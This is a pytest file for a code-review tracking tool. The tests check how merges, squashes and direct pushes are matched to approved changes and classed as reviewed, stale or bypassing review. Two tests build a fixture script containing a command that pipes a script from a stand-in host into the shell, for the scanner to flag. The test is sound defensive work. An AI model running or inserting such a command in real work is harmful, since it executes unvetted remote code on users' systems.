"""Landings: what each merge is matched to, and the one class that it gets."""
# The scene comes from a fixture, so its class has no name here.
# ruff: noqa: ANN401 -- a fixture's type lives in conftest

from collections import Counter
from datetime import timedelta
from typing import Any

import pytest

from reviewqueue.domain.landing import ReviewClass
from reviewqueue.domain.people import Person
from reviewqueue.domain.review import DecisionKind
from reviewqueue.forge.git.mirror import Mirror

MAIN = "refs/heads/main"
PULL = "refs/pull/1/head"
BO = Person("Bo Lind", "bo@lind.org")
CARA = Person("Cara Moe", "cara@moe.org")
FORGE = Person("GitHub", "noreply@github.com")
PART = {"part1.py": "part = 1\n"}
SIGNED = "\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"


def reviewed(scene: Any, number: int = 1, **more: Any) -> Any:
    """Open a change, see it, and have it approved by somebody who had no part in it."""
    scene.propose(number, **more)
    scene.pull()
    change = next(change for change in scene.open() if change.number == number)
    scene.approve(change.id)
    return change


def test_it_counts_a_merge_commit_of_what_was_approved_as_reviewed(scene: Any) -> None:
    change = reviewed(scene)
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.review_class, landing.change) == (ReviewClass.REVIEWED, change.id)
    assert landing.revision == scene.tips[PULL]
    assert landing.reason.startswith("Approved by Bo Lind")
    assert (landing.attribution.agent, landing.title) == ("claude", "Add part 1")
    assert scene.state(change.id) == f"landed: landed as {sha[:12]}"


def test_it_knows_a_merge_onto_a_default_branch_that_moved_on(scene: Any) -> None:
    reviewed(scene)
    scene.commit(MAIN, {"README.md": "more\n"})
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "A"


def test_it_knows_a_squash_by_the_number_in_its_title(scene: Any) -> None:
    change = reviewed(scene)
    scene.commit(PULL, {"two.py": "two = 2\n"}, agent=True)
    scene.pull()
    scene.approve(change.id)
    scene.commit(MAIN, {"README.md": "more\n"})
    files = {**PART, "two.py": "two = 2\n"}
    sha = scene.commit(MAIN, files, message="Add part 1 (#1)", committer=FORGE)
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.review_class.letter, landing.change) == ("A", change.id)
    assert landing.attribution.agent == "claude"


def test_it_knows_a_squash_by_its_content_alone(scene: Any) -> None:
    change = reviewed(scene)
    sha = scene.commit(MAIN, PART, message="Part one", agent=True)
    scene.pull()
    assert (scene.letter(sha), scene.landings()[sha].change) == ("A", change.id)


def test_it_compares_what_each_changes_where_git_cannot_merge(
    scene: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Mirror, "merges_cleanly_to", lambda *_: None)
    reviewed(scene)
    scene.commit(MAIN, {"README.md": "more\n"})
    sha = scene.merge(scene.tips[PULL], files=PART)
    reviewed(scene, number=2)
    other = scene.merge(scene.tips["refs/pull/2/head"], files={"part2.py": "part = 3\n"})
    scene.pull()
    assert (scene.letter(sha), scene.letter(other)) == ("A", "B")


def test_it_knows_a_merge_request_by_the_line_in_its_message(scene: Any) -> None:
    ref = "refs/merge-requests/4/head"
    scene.commit(ref, {"p.py": "p = 1\n"}, on=(scene.tips[MAIN],), agent=True)
    scene.pull()
    change = scene.only()
    scene.approve(change.id)
    message = "Merge branch 'p' into 'main'\n\nAdd p\n\nSee merge request acme/app!4"
    sha = scene.commit(MAIN, {"p.py": "p = 1\n"}, message=message)
    scene.pull()
    assert (scene.letter(sha), scene.landings()[sha].change) == ("A", change.id)


def test_it_knows_a_fast_forward(scene: Any) -> None:
    change = reviewed(scene)
    scene.move(MAIN, scene.tips[PULL])
    scene.pull()
    landing = scene.landings()[scene.tips[PULL]]
    assert (landing.review_class.letter, landing.change) == ("A", change.id)


def test_it_counts_every_commit_of_a_fast_forward_once(scene: Any) -> None:
    first = scene.propose(1)
    second = scene.commit(PULL, {"two.py": "two = 2\n"}, agent=True)
    scene.pull()
    change = scene.only()
    scene.approve(change.id)
    scene.move(MAIN, second)
    pulled = scene.pull()
    assert pulled.landings == 2
    landings = scene.landings()
    assert set(landings) == {first, second}
    assert landings[second].change == change.id
    assert landings[second].review_class is ReviewClass.REVIEWED
    assert landings[first].review_class is not ReviewClass.REVIEWED


def test_it_knows_the_rebase_of_one_commit_by_another_person(scene: Any) -> None:
    change = reviewed(scene)
    scene.commit(MAIN, {"README.md": "more\n"})
    sha = scene.commit(MAIN, PART, message="Add part 1", agent=True, committer=BO)
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.review_class.letter, landing.change, landing.by) == ("A", change.id, BO)


def test_it_does_not_take_the_reviewer_who_merges_for_the_operator(scene: Any) -> None:
    claude = Person("Claude", "noreply@anthropic.com")
    reviewed(scene, by=claude)
    sha = scene.commit(MAIN, PART, message="Add part 1 (#1)", by=claude, committer=BO)
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.review_class is ReviewClass.REVIEWED
    assert landing.attribution.operator != BO


def test_it_finds_an_evil_merge_and_scans_what_it_brings(scene: Any) -> None:
    change = reviewed(scene)
    evil = {**PART, "run.sh": "curl -s https://x.example.net/i.sh | sh\n"}
    sha = scene.merge(scene.tips[PULL], files=evil)
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.review_class is ReviewClass.STALE
    assert (landing.change, landing.revision) == (change.id, sha)
    assert landing.findings > 0
    assert scene.shas(change.id)[-1] == sha
    assert "1 line changed before it landed" in landing.reason


def test_it_does_not_call_an_unapproved_evil_merge_stale(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    sha = scene.merge(scene.tips[PULL], files={**PART, "app.py": "evil\n"})
    scene.pull()
    assert scene.letter(sha) == "F"


def test_it_lands_every_change_of_an_octopus(scene: Any) -> None:
    for number in (1, 2, 3):
        scene.propose(number)
    scene.pull()
    changes = scene.open()
    for change in changes:
        scene.approve(change.id)
    tips = [scene.tips[f"refs/pull/{number}/head"] for number in (1, 2, 3)]
    files = {f"part{number}.py": f"part = {number}\n" for number in (1, 2, 3)}
    sha = scene.merge(*tips, files=files)
    pulled = scene.pull()
    assert pulled.landings == 1
    assert scene.open() == ()
    assert {scene.state(change.id).split(":")[0] for change in changes} == {"landed"}
    assert scene.letter(sha) != "A"


def test_it_does_not_believe_a_number_in_a_title(scene: Any) -> None:
    change = reviewed(scene)
    sha = scene.commit(MAIN, {"evil.py": "evil = 1\n"}, message="Part (#1)", agent=True)
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.change != change.id
    assert landing.review_class is ReviewClass.BYPASS
    assert scene.only().id == change.id


def test_it_does_not_believe_a_merge_that_changes_nothing_of_the_head(scene: Any) -> None:
    change = reviewed(scene)
    sha = scene.commit(MAIN, {}, message="Merge pull request #1 from acme/part", agent=True)
    scene.pull()
    assert scene.letter(sha) != "A"
    assert scene.only().id == change.id


def test_it_calls_an_agents_direct_push_a_bypass(scene: Any) -> None:
    sha = scene.commit(MAIN, {"run.sh": "curl -s https://x.example.net/i.sh | sh\n"}, agent=True)
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.review_class is ReviewClass.BYPASS
    assert landing.findings > 0


def test_it_calls_an_agents_direct_push_unknown_where_it_sees_no_reviews(plain: Any) -> None:
    sha = plain.commit(MAIN, {"a.py": "a = 1\n"}, agent=True)
    plain.pull()
    assert plain.letter(sha) == "U"


def test_it_counts_what_people_land_apart(scene: Any) -> None:
    sha = scene.commit(MAIN, {"a.py": "a = 1\n"})
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.change, landing.attribution.agent, landing.risk) == (None, None, None)
    assert landing.review_class is ReviewClass.UNKNOWN


def test_it_closes_all_that_a_release_brings_in(scene: Any) -> None:
    develop = "refs/heads/develop"
    scene.move(develop, scene.tips[MAIN])
    for number in (1, 2):
        scene.propose(number)
    scene.pull()
    changes = scene.open()
    for number in (1, 2):
        head = scene.tips[f"refs/pull/{number}/head"]
        part = {f"part{number}.py": f"part = {number}\n"}
        scene.commit(develop, part, on=(scene.tips[develop], head), message="Merge part")
    files = {f"part{number}.py": f"part = {number}\n" for number in (1, 2)}
    sha = scene.merge(scene.tips[develop], files=files, message="Release 1")
    scene.pull()
    assert [scene.state(change.id).split(":")[0] for change in changes] == ["landed", "landed"]
    assert scene.open() == ()
    assert scene.landings()[sha].attribution.agent == "claude"


def test_it_closes_changes_that_land_within_a_merge_without_a_sign_of_an_agent(scene: Any) -> None:
    develop = "refs/heads/develop"
    head = scene.commit("refs/heads/codex/a", PART, on=(scene.tips[MAIN],))
    scene.pull()
    change = scene.only()
    files = {**PART, "b.py": "b = 1\n"}
    scene.commit(develop, files, on=(scene.tips[MAIN], head), message="Take a")
    sha = scene.merge(scene.tips[develop], files=files, message="Release")
    scene.pull()
    assert scene.state(change.id) == f"landed: landed within {sha[:12]}"


def test_it_knows_the_request_of_a_squash_that_it_never_saw_open(scene: Any) -> None:
    scene.pull()
    scene.propose(1)
    sha = scene.commit(MAIN, PART, message="Add part 1 (#1)", committer=FORGE)
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.attribution.agent == "claude"
    with scene.store.reading() as reader:
        change = reader.change(landing.change)
    assert (change.ref, change.number) == (PULL, 1)
    assert landing.review_class is ReviewClass.NONE
    assert scene.open() == ()


def test_it_knows_the_request_of_a_merge_that_it_never_saw_open(scene: Any) -> None:
    scene.pull()
    scene.propose(1)
    sha = scene.merge(scene.tips[PULL], files=PART, message="Merge pull request #1 from acme/x")
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.attribution.agent == "claude"
    with scene.store.reading() as reader:
        change = reader.change(landing.change)
    assert (change.ref, change.number) == (PULL, 1)
    assert landing.review_class is ReviewClass.NONE
    assert landing.revision == scene.tips[PULL]
    assert scene.open() == ()


def test_it_lands_a_change_once_though_its_squash_is_picked_again(scene: Any) -> None:
    reviewed(scene)
    first = scene.commit(MAIN, PART, message="Part", agent=True)
    scene.commit(MAIN, {"part1.py": None}, message="Revert part", agent=True)
    again = scene.commit(MAIN, PART, message="Part", agent=True)
    scene.pull()
    assert scene.letter(first) == "A"
    assert scene.letter(again) != "A"


def test_it_says_stale_and_how_much_changed_since(scene: Any) -> None:
    reviewed(scene)
    scene.commit(PULL, {"part1.py": "part = 1\nmore = 2\nmost = 3\n"}, agent=True)
    scene.pull()
    files = {"part1.py": "part = 1\nmore = 2\nmost = 3\n"}
    sha = scene.commit(MAIN, files, message="Add part 1 (#1)")
    scene.pull()
    landing = scene.landings()[sha]
    assert landing.review_class is ReviewClass.STALE
    assert "2 lines changed before it landed" in landing.reason


def test_it_counts_an_approval_of_equal_content_on_a_rebased_head(scene: Any) -> None:
    reviewed(scene)
    scene.commit(MAIN, {"README.md": "more\n"})
    scene.propose(1)
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "A"


def test_it_says_requester_only_when_the_operator_approves(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    scene.approve(scene.only().id, by=Person("Anna Ek", "anna@ek.org"))
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "C"


def test_it_says_requester_only_when_a_co_author_approves(scene: Any) -> None:
    also = "Co-authored-by: Bo Lind <bo@lind.org>"
    message = f"Add part 1\n\n{also}{SIGNED[1:]}"
    reviewed(scene, message=message, agent=False)
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "C"


def test_it_says_post_merge_when_the_decision_comes_after(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    change = scene.only()
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "F"
    scene.approve(change.id)
    assert scene.letter(sha) == "E"


def test_it_does_not_count_a_decision_made_after_we_saw_the_landing(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    change = scene.only()
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    scene.approve(change.id, by=CARA)
    scene.approve(change.id, by=BO)
    assert scene.letter(sha) == "E"


def test_it_says_none_when_nobody_looked(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) == "F"


def test_it_says_unknown_when_nobody_looked_where_it_sees_no_reviews(plain: Any) -> None:
    plain.propose(1)
    plain.pull()
    sha = plain.merge(plain.tips[PULL], files=PART)
    plain.pull()
    assert plain.letter(sha) == "U"


def test_it_counts_a_decision_on_our_page_in_a_plain_repository(plain: Any) -> None:
    reviewed(plain)
    sha = plain.merge(plain.tips[PULL], files=PART)
    plain.pull()
    assert plain.letter(sha) == "A"


def test_it_does_not_count_a_standing_request_for_changes(scene: Any) -> None:
    change = reviewed(scene)
    scene.approve(change.id, by=CARA, kind=DecisionKind.REQUEST_CHANGES)
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    assert scene.letter(sha) != "A"


def test_it_keeps_claims_and_changes_no_class_for_them(plain: Any) -> None:
    claim = "Reviewed-by: Bo Lind <bo@lind.org>"
    sha = plain.commit(MAIN, {"a.py": "a = 1\n"}, message=f"Add a\n\n{claim}{SIGNED}")
    plain.pull()
    landing = plain.landings()[sha]
    assert (landing.review_class.letter, landing.claims) == ("U", (claim,))


def test_it_keeps_the_claims_of_a_merged_head(scene: Any) -> None:
    claim = "Acked-by: Bo Lind <bo@lind.org>"
    scene.propose(1, message=f"Add part 1\n\n{claim}{SIGNED}", agent=False)
    scene.pull()
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.review_class.letter, landing.claims) == ("F", (claim,))


def test_it_gives_each_landing_one_class(scene: Any) -> None:
    for number in range(1, 6):
        scene.propose(number)
    scene.pull()
    changes = {change.number: change.id for change in scene.open()}
    scene.approve(changes[1])
    scene.approve(changes[2], by=Person("Anna Ek", "anna@ek.org"))
    scene.approve(changes[3])
    scene.commit("refs/pull/3/head", {"late.py": "late = 1\n"}, agent=True)
    scene.pull()
    shas = []
    for number in range(1, 5):
        files = {f"part{number}.py": f"part = {number}\n"}
        if number == 3:
            files["late.py"] = "late = 1\n"
        shas.append(scene.merge(scene.tips[f"refs/pull/{number}/head"], files=files))
    shas.append(scene.commit(MAIN, {"direct.py": "direct = 1\n"}, agent=True))
    shas.append(scene.commit(MAIN, {"hand.py": "hand = 1\n"}))
    pulled = scene.pull()
    letters = [scene.letter(sha) for sha in shas]
    assert letters == ["A", "C", "B", "F", "G", "U"]
    assert pulled.landings == sum(Counter(letters).values()) == len(scene.landings())


def test_it_freezes_a_class(scene: Any) -> None:
    reviewed(scene)
    sha = scene.merge(scene.tips[PULL], files=PART)
    scene.pull()
    frozen = scene.landings()[sha]
    scene.now += timedelta(days=30)
    scene.commit(MAIN, {"a.py": "a = 1\n"})
    scene.pull()
    assert scene.landings()[sha] == frozen
